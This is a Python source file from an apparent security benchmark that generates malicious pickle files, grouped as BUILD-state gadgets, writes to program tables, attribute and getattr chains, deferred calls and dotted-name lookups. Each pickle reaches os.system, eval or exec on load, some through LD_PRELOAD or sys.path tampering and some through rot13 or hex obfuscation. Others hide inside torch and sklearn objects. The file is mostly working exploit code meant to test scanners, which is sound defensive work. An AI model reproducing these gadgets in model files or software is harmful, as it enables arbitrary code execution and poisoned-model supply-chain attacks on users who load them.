"""Pickles in which no single name tells what happens: attributes, states, tables and computed names do it.

Source: CPython, Modules/_pickle.c (load_build, do_setitems, load_stack_global, fast_save_enter's counterparts),
Lib/pickle.py, Lib/_compat_pickle.py and the documented behaviour of the classes used.
"""

from collections.abc import Iterator

from bench.attack_case import (
    CODE,
    COMMAND,
    RUN,
    SYSTEM,
    Attack,
    Call,
    Name,
    Raw,
    call,
    dump,
    imported,
    put,
    text,
)

FAMILY = "pickle: gadgets"
NAMESPACE = call("types", "SimpleNamespace")
EMPTY = call("argparse", "Namespace")


def attacks() -> Iterator[Attack]:
    for number, (name, code, why) in enumerate(
        [*_built(), *_tables(), *_chains(), *_called_later(), *_dotted()]
    ):
        yield Attack(FAMILY, f"{number:03}-{name}.pkl", b"\x80\x04" + code + b".", why)


Made = Iterator[tuple[str, bytes, str]]


def build(target: object, state: object) -> bytes:
    return put(target) + put(state) + b"b"


def _built() -> Made:
    """Yield pickles whose harm is in BUILD: a state sets attributes of what was imported."""
    taught = build(EMPTY, (None, {"__setstate__": SYSTEM}))
    yield (
        "setstate-taught",
        taught + text(COMMAND) + b"b",
        "an object is taught __setstate__ = os.system, then BUILT",
    )
    taught = build(EMPTY, {"__setstate__": SYSTEM})
    yield "setstate-in-dict", taught + text(COMMAND) + b"b", "the same through the object's own dictionary"
    taught = build(NAMESPACE, (None, {"__setstate__": Name("builtins", "eval")}))
    yield "setstate-eval", taught + text(CODE) + b"b", "a SimpleNamespace is taught __setstate__ = eval"
    for module, name, attribute in (
        ("os", "path", "join"),
        ("json", "decoder", "JSONDecoder"),
        ("torch", "nn", "Linear"),
        ("collections", "abc", "Mapping"),
        ("numpy", "linalg", "norm"),
        ("logging", "os", "getcwd"),
    ):
        code = build(Name(module, name), {attribute: SYSTEM})
        yield f"patch-{module}-{name}", code, f"BUILD on the module {module}.{name} replaces {attribute}"
    for module, name, attribute in (
        ("collections", "OrderedDict", "__setitem__"),
        ("torch.nn.modules.linear", "Linear", "forward"),
        ("sklearn.linear_model._logistic", "LogisticRegression", "predict"),
        ("builtins", "print", "__self__"),
        ("json", "dumps", "__code__"),
        ("torch._utils", "_rebuild_tensor_v2", "__code__"),
        ("numpy", "dtype", "__reduce__"),
    ):
        code = build(Name(module, name), (None, {attribute: SYSTEM}))
        yield (
            f"slot-{module}.{name}",
            code,
            f"BUILD's second state sets {attribute} of {module}.{name} for all users",
        )
    harmless = build(Name("json", "dumps"), (None, {"__defaults__": (1, 2)}))
    yield "slot-defaults", harmless, "a function's defaults change for the whole program"
    yield (
        "class-of",
        build(EMPTY, (None, {"__class__": Name("subprocess", "Popen")})),
        "an object changes its class",
    )
    state = (SYSTEM, (COMMAND,), {}, None)
    partial = b"(" + build(call("functools", "partial", Name("builtins", "print")), state)
    yield (
        "partial-state",
        partial[1:] + b")R",
        "a partial of print whose state makes it os.system, then called",
    )
    made = put(Name("functools", "partial")) + put((Name("builtins", "len"),)) + b"\x81"
    yield "partial-new", made + put(state) + b"b)R", "the same, made by NEWOBJ"
    yield "state-holds-call", build(EMPTY, {"a": RUN}), "the call lies inside a state"
    yield (
        "dunder-state",
        build(EMPTY, {"__getattr__": Name("builtins", "eval")}),
        "a state sets a method of the language",
    )
    nested = put(Name("collections", "OrderedDict")) + b")\x81" + put((None, {"update": SYSTEM})) + b"b"
    yield "update-taught", nested + put({"a": 1}), "a dictionary's method becomes os.system"


def _tables() -> Made:
    """Yield pickles that write into tables of the program."""
    pair = text("marker") + put(SYSTEM) + b"s"
    for module, name in (("sys", "modules"), ("copyreg", "dispatch_table"), ("builtins", "__dict__")):
        yield f"set-{module}.{name}", put(Name(module, name)) + pair, f"SETITEM on {module}.{name}"
    preload = text("LD_PRELOAD") + text("./marker.so")
    yield "environ", put(Name("os", "environ")) + preload + b"s", "sets what every later process loads"
    yield "environ-many", put(Name("os", "environ")) + b"(" + preload + b"u", "the same by SETITEMS"
    yield (
        "path",
        put(Name("sys", "path")) + text("./marker") + b"a",
        "later imports find the attacker's folder",
    )
    yield "path-many", put(Name("sys", "path")) + b"(" + text("./marker") + b"e", "the same by APPENDS"
    yield "meta-path", put(Name("sys", "meta_path")) + put(SYSTEM) + b"a", "later imports call it"
    yield "path-hooks", put(Name("sys", "path_hooks")) + put(SYSTEM) + b"a", "later imports call it"
    yield (
        "warnings",
        put(Name("warnings", "filters")) + b"(" + put(RUN) + b"e",
        "a call within a list that is imported",
    )
    extension = (
        put(call("copyreg", "add_extension", "os", "system", 1)) + b"0\x82\x01" + put((COMMAND,)) + b"R"
    )
    yield "extension", extension, "a name is registered as an extension code, then called by EXT1"
    extension = (
        put(call("copyreg", "add_extension", "os", "system", 300)) + b"0\x83\x2c\x01" + put((COMMAND,)) + b"R"
    )
    yield "extension-2", extension, "the same by EXT2"
    table = put(Name("copyreg", "_inverted_registry")) + put(1) + put(("os", "system")) + b"s0"
    yield (
        "extension-table",
        table + b"\x82\x01" + put((COMMAND,)) + b"R",
        "the table of extensions is written directly",
    )
    cache = (
        put(Name("copyreg", "_extension_cache"))
        + put(7)
        + put(SYSTEM)
        + b"s0\x82\x07"
        + put((COMMAND,))
        + b"R"
    )
    yield "extension-cache", cache, "the cache of extensions is written directly"
    mapping = put(Name("_compat_pickle", "NAME_MAPPING")) + put(("a", "b")) + put(("os", "system")) + b"s0"
    yield "compat-table", mapping, "the table of renamed names gives os.system for a harmless name"


def _chains() -> Made:
    """Yield pickles that reach a function through attributes, items or text."""
    getattr_ = Name("builtins", "getattr")
    module = call("importlib", "import_module", "os")
    yield (
        "getattr-import",
        put(Call(Call(getattr_, (module, "system")), (COMMAND,))),
        "getattr on an imported module",
    )
    for holder, name in (
        ("shutil", "os"),
        ("pathlib", "os"),
        ("tempfile", "_os"),
        ("numpy", "os"),
        ("torch", "os"),
    ):
        chain = Call(Call(getattr_, (Name(holder, name), "system")), (COMMAND,))
        yield f"getattr-{holder}", put(chain), f"os.system through {holder}.{name}"
    walked: object = call("collections", "OrderedDict")
    for step in ("__class__", "__init__", "__class__"):
        walked = Call(getattr_, (walked, step))
    yield (
        "getattr-walk",
        put(Call(getattr_, (walked, "__subclasses__"))),
        "a walk from a harmless object to every class",
    )
    subclasses = Call(Name("builtins", "object.__subclasses__"), ())
    yield "subclasses", put(subclasses), "every class of the program"
    picked = call("operator", "getitem", Name("sys", "modules"), "os")
    yield (
        "modules-item",
        put(Call(Call(getattr_, (picked, "system")), (COMMAND,))),
        "os from the table of modules",
    )
    got = Call(Name("sys", "modules.get"), ("os",))
    yield "modules-get", put(Call(Call(getattr_, (got, "system")), (COMMAND,))), "os by modules.get"
    item = Call(call("operator", "itemgetter", "eval"), (Name("builtins", "__dict__"),))
    yield "builtins-item", put(Call(item, (CODE,))), "eval from the table of builtins"
    taken = Call(call("operator", "attrgetter", "system"), (Name("shutil", "os"),))
    yield "attrgetter", put(Call(taken, (COMMAND,))), "attrgetter on a module within another"
    invoked = Call(call("operator", "methodcaller", "system", COMMAND), (Name("shutil", "os"),))
    yield "methodcaller", put(invoked), "methodcaller on a module within another"
    joined = Call(Name("builtins", "str.join"), ("", ["sys", "tem"]))
    yield (
        "computed-name",
        text("os") + put(joined) + b"\x93" + put((COMMAND,)) + b"R",
        "the name is computed by str.join",
    )
    turned = call("codecs", "decode", "flfgrz", "rot13")
    yield "rot13", text("os") + put(turned) + b"\x93" + put((COMMAND,)) + b"R", "the name is written in rot13"
    decoded = call("_codecs", "decode", b"73797374656d", "hex")
    yield (
        "hex-name",
        text("os") + put(decoded) + b"\x93" + put((COMMAND,)) + b"R",
        "the name is written in hex",
    )
    replaced = Call(Name("builtins", "str.replace"), ("oXs", "X", ""))
    yield (
        "computed-module",
        put(replaced) + text("system") + b"\x93" + put((COMMAND,)) + b"R",
        "the module is computed",
    )
    loaded = call("torch.storage", "_load_from_bytes", dump(RUN))
    yield "nested-torch", put(loaded), "a pickle in torch's own bytes"
    inner = call("pickle", "loads", dump(call("pickle", "loads", dump(RUN))))
    yield "nested-twice", put(inner), "a pickle in a pickle in a pickle"
    reconstructed = call("copyreg", "__newobj__", Name("subprocess", "Popen"), ["touch", "marker"])
    yield "newobj-name", put(reconstructed), "a process object through copyreg"
    exact = call("copyreg", "_reconstructor", Name("ctypes", "CDLL"), Name("builtins", "object"), None)
    yield "reconstructor", put(exact), "a library object through copyreg"
    array = call("numpy.core.multiarray", "_reconstruct", Name("numpy", "ndarray"), (0,), b"b")
    kind = put(call("numpy", "dtype", "O8", False, True)) + put((3, "|", None, None, None, -1, -1, 63)) + b"b"
    state = (1, (1,), Raw(kind), False, [RUN])
    yield "object-array", build(array, state), "the call lies among an array's objects"


def _called_later() -> Made:
    """Yield pickles in which a harmless class calls what it is given."""
    mapped = call("builtins", "map", SYSTEM, [COMMAND])
    for module, name in (
        ("builtins", "list"),
        ("builtins", "bytes"),
        ("collections", "deque"),
        ("builtins", "set"),
    ):
        yield f"map-{name}", put(call(module, name, mapped)), f"{name} consumes a map of os.system"
    default = call("collections", "defaultdict", call("functools", "partial", SYSTEM, COMMAND))
    yield (
        "defaultdict",
        put(Call(Name("operator", "getitem"), (default, "a"))),
        "a missing key calls the factory",
    )
    yield (
        "defaultdict-only",
        put(call("collections", "defaultdict", SYSTEM)),
        "any missing key will call os.system",
    )
    for name in ("min", "max", "sorted"):
        keyed = Call(call("functools", "partial", Name("builtins", name)), ([COMMAND],))
        state = (Name("builtins", name), ([COMMAND],), {"key": SYSTEM}, None)
        yield f"key-{name}", put(keyed.target) + put(state) + b"b)R", f"{name} with os.system as its key"
    yield (
        "nlargest",
        put(call("heapq", "nlargest", 1, [COMMAND], SYSTEM)),
        "nlargest with os.system as its key",
    )
    yield (
        "groupby",
        put(call("builtins", "list", call("itertools", "groupby", [COMMAND], SYSTEM))),
        "groupby's key",
    )
    yield "sub", put(call("re", "sub", "touch.*", SYSTEM, COMMAND)), "a substitution's function"
    yield "iter", put(call("builtins", "next", call("builtins", "iter", SYSTEM, 0))), "an iterator that calls"
    fitted = put(call("sklearn.preprocessing._function_transformer", "FunctionTransformer", SYSTEM))
    yield "transformer", fitted, "a transformer that applies os.system to its data"
    estimator = Raw(
        put(Name("sklearn.preprocessing._function_transformer", "FunctionTransformer")) + b")\x81"
    )
    yield (
        "transformer-state",
        build(estimator, {"func": Name("builtins", "eval")}),
        "the same in a state, unfitted",
    )
    scorer = Raw(put(Name("sklearn.metrics._scorer", "_Scorer")) + b")\x81")
    yield "scorer-state", build(scorer, {"_score_func": SYSTEM}), "a scorer whose function is os.system"
    module = Raw(put(Name("torch.nn.modules.linear", "Linear")) + b")\x81")
    hooks = {"_forward_hooks": {0: SYSTEM}}
    yield "torch-hook", build(module, hooks), "a layer whose hook is os.system: it runs with every call"
    yield (
        "torch-forward",
        build(module, {"forward": Name("builtins", "exec")}),
        "a layer whose forward is exec",
    )
    tokenizer = Raw(put(Name("sklearn.feature_extraction.text", "CountVectorizer")) + b")\x81")
    yield (
        "analyzer",
        build(tokenizer, {"analyzer": Name("builtins", "eval")}),
        "a vectorizer that evaluates its texts",
    )
    yield "reference", put([SYSTEM]), "os.system as a value, for whoever calls it"
    yield (
        "finalizer",
        put(call("weakref", "finalize", NAMESPACE, SYSTEM, COMMAND)),
        "a call when the object goes",
    )
    yield "exit", put(call("atexit", "register", SYSTEM, COMMAND)), "a call when the program ends"


def _dotted() -> Made:
    """Yield pickles that reach a function by a dotted name in a module that looks harmless."""
    for module, name in (
        ("shutil", "os.system"),
        ("pathlib", "os.system"),
        ("logging", "os.system"),
        ("numpy", "os.system"),
        ("torch", "os.system"),
        ("torch.serialization", "os.system"),
        ("collections", "_sys.modules.clear"),
        ("json.decoder", "scanner.re.enum.sys.exit"),
        ("random", "_os.system"),
        ("joblib", "numpy_pickle.os.system"),
        ("sklearn.utils", "warnings.sys.modules.get"),
        ("sklearn.base", "inspect.os.system"),
        ("torch.nn.modules.module", "functools.partial"),
        ("builtins", "print.__self__.eval"),
        ("builtins", "object.__class__.__base__.__subclasses__"),
        ("collections", "OrderedDict.__init__.__globals__"),
        ("functools", "partial.__new__"),
        ("numpy.core.multiarray", "os.popen"),
    ):
        yield (
            f"dotted-{module}.{name}",
            imported(module, name) + put((COMMAND,)) + b"R",
            f"{module} reaches {name}",
        )
